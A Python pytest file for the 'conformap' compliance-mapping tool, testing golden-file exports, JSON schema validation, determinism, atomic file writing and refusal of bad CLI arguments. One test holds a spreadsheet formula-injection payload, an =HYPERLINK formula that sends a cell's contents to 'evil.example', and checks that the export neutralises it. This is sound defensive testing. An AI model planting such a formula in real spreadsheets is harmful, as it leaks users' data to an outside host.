"""Exports against golden files (tests/expected/, reviewed by hand), their schema, and determinism."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import jsonschema
import pytest

import conformap
from conformap import escape, outputs, paths
from conformap.cli import main
from conformap.outputs import mappings_json

EXPECTED = Path(__file__).resolve().parent / "expected"


@pytest.fixture(scope="module")
def golden(fixtures_dir):
    return conformap.load(fixtures_dir / "golden")


@pytest.fixture(scope="module")
def export_schema():
    schema = json.loads(mappings_json.json_schema())
    jsonschema.Draft202012Validator.check_schema(schema)
    return schema


def test_json_matches_golden_file(golden):
    assert outputs.render(golden, "json") == (EXPECTED / "golden.json").read_bytes()


def test_csv_matches_golden_file(golden):
    assert outputs.render(golden, "csv") == (EXPECTED / "golden.csv").read_bytes()


def test_csv_is_rfc4180_with_neutralised_formulas(golden):
    raw = outputs.render(golden, "csv")
    assert raw.count(b"\r\n") == 5 and b"\n" not in raw.replace(b"\r\n", b"")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    guidance = {r["rule"]: r["guidance"] for r in rows}
    assert guidance["beta-check"] == "'=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click\")"
    assert guidance["gamma-check"] == "'+1 -2 @three"
    assert guidance["alpha-check"] == "Buckets\u2019 data, \"quoted\", and commas."


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), ("’quote", "’quote"),
    ("  =1+1", "'  =1+1"), ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("\uff20x", "'\uff20x"), (" plain", " plain"),
])
def test_csv_safe(value, expected):
    assert escape.spreadsheet_cell(value) == expected


@pytest.mark.scenario
def test_json_validates_against_published_schema(golden, real_catalog, export_schema):
    for cat in (golden, real_catalog):
        jsonschema.validate(json.loads(outputs.render(cat, "json")), export_schema, cls=jsonschema.Draft202012Validator)


def test_exports_agree_with_each_other_and_the_catalogue(real_catalog):
    data = json.loads(outputs.render(real_catalog, "json"))
    rows = list(csv.DictReader(io.StringIO(outputs.render(real_catalog, "csv").decode("utf-8"), newline="")))
    assert data["counts"]["mappings"] == len(data["mappings"]) == len(rows) == 181
    assert [(m["rule"], m["control"], m["statement"]) for m in data["mappings"]] == [(r["rule"], r["control_id"], r["statement_id"]) for r in rows]
    assert {r["id"] for r in data["rules"]} == {r.id for r in real_catalog.rules}


@pytest.mark.scenario
def test_exports_are_deterministic(fixtures_dir, real_catalog):
    for fmt in ("aws-text", "json", "csv"):
        again = conformap.load(paths.DEFAULT_CATALOG)
        assert outputs.render(real_catalog, fmt) == outputs.render(again, fmt)


def test_aws_text_uses_printed_statement(golden):
    text = outputs.render(golden, "aws-text").decode("utf-8")
    assert "G-2 How do you do the first thing? The first thing\u2019s description.\n\nbeta-check\n" in text


def test_export_to_file_is_atomic(tmp_path, fixtures_dir, capsys):
    out = tmp_path / "mappings.json"
    assert main(["export", "--format", "json", "--catalog", str(fixtures_dir / "golden"), "--out", str(out)]) == 0
    before = out.read_bytes()
    broken = tmp_path / "broken"
    broken.mkdir()  # an empty folder: no framework.yaml, no controls/, no rules/
    assert main(["export", "--format", "json", "--catalog", str(broken), "--out", str(out)]) == 1
    assert out.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["broken", "mappings.json"]  # no temp file left behind
    assert "nothing was written" in capsys.readouterr().err


@pytest.mark.parametrize("make_out, message", [
    (lambda d: d, "is a folder"),
    (lambda d: Path("/proc/conformap-test/x.csv"), "cannot write"),
    (lambda d: d / "afile" / "x.csv", "part of its path is a file"),
])
def test_export_to_a_bad_path_is_an_error_not_a_traceback(tmp_path, fixtures_dir, capsys, make_out, message):
    (tmp_path / "afile").write_text("x")
    out = make_out(tmp_path)
    assert main(["export", "--format", "csv", "--catalog", str(fixtures_dir / "golden"), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]


# --- argument refusals (issue 22, item 7): one line each, and nothing written -------------------------


def tree_state(root: Path) -> dict[str, str]:
    """Every entry below ``root``: files by SHA-256, folders and links by what they are."""
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        out[rel] = "link:" + str(p.readlink()) if p.is_symlink() else "folder" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def refused(argv: list[str], tmp_path: Path, capsys) -> str:
    """Run ``conformap export ARGV`` (in ``tmp_path``), check it wrote nothing anywhere under ``tmp_path`` nor on
    standard output, and return its one line of standard error."""
    before = tree_state(tmp_path)
    assert main(["export", *argv]) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert tree_state(tmp_path) == before
    assert err.count("\n") == 1 and "Traceback" not in err
    return err.rstrip("\n")


@pytest.mark.parametrize("option, message", [
    ("--control", "--control needs a question id, e.g. SEC-8; it was given an empty one"),
    ("--statement", "--statement needs a best-practice statement id, e.g. SEC-3.BP07; it was given an empty one"),
])
def test_an_empty_pack_id_is_refused(tmp_path, capsys, option, message):
    (tmp_path / "keep.yaml").write_text("earlier\n")
    err = refused(["--format", "conformance-pack", option, "", "--out", str(tmp_path / "keep.yaml")], tmp_path, capsys)
    assert err == f"conformap export: {message}"


@pytest.mark.parametrize("option, value, message", [
    ("--statement", "SEC-8", "SEC-8 is a question, not a best-practice statement: give it with --control"),
    ("--control", "SEC-3.BP07", "SEC-3.BP07 is a best-practice statement, not a question: give it with --statement"),
    ("--control", "aws-wa-security-pillar", "no pack for question aws-wa-security-pillar: it is not in the catalogue or has no mapped rule"),
])
@pytest.mark.scenario
def test_a_pack_id_of_the_wrong_kind_is_refused(tmp_path, capsys, option, value, message):
    err = refused(["--format", "conformance-pack", option, value, "--out", str(tmp_path / "pack.yaml")], tmp_path, capsys)
    assert err == f"conformap export: {message}"


@pytest.mark.parametrize("which", [["--control", "SEC-8"], ["--all"]])
@pytest.mark.scenario
def test_out_a_link_to_a_folder_is_refused(tmp_path, capsys, which):
    (tmp_path / "packs").mkdir()
    (tmp_path / "packs" / "sec-8.yaml").write_text("earlier\n")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "packs")
    err = refused(["--format", "conformance-pack", *which, "--out", str(link)], tmp_path, capsys)
    assert err == f"{link}: cannot write: is a symbolic link; give the folder itself; nothing was written"


@pytest.mark.scenario
def test_an_earlier_exports_file_now_a_folder_is_refused_before_anything_is_written(tmp_path, capsys):
    packs = tmp_path / "packs"
    assert main(["export", "--format", "conformance-pack", "--all", "--out", str(packs)]) == 0
    capsys.readouterr()
    assert (packs / "sec-6.yaml").is_file()
    (packs / "sec-6.yaml").write_text("earlier\n")  # written before sec-8.yaml
    (packs / "sec-8.yaml").unlink()
    (packs / "sec-8.yaml").mkdir()
    err = refused(["--format", "conformance-pack", "--all", "--out", str(packs)], tmp_path, capsys)
    assert err == f"{packs / 'sec-8.yaml'}: cannot write: is a folder, not a regular file; nothing was written"
    assert (packs / "sec-6.yaml").read_text() == "earlier\n"
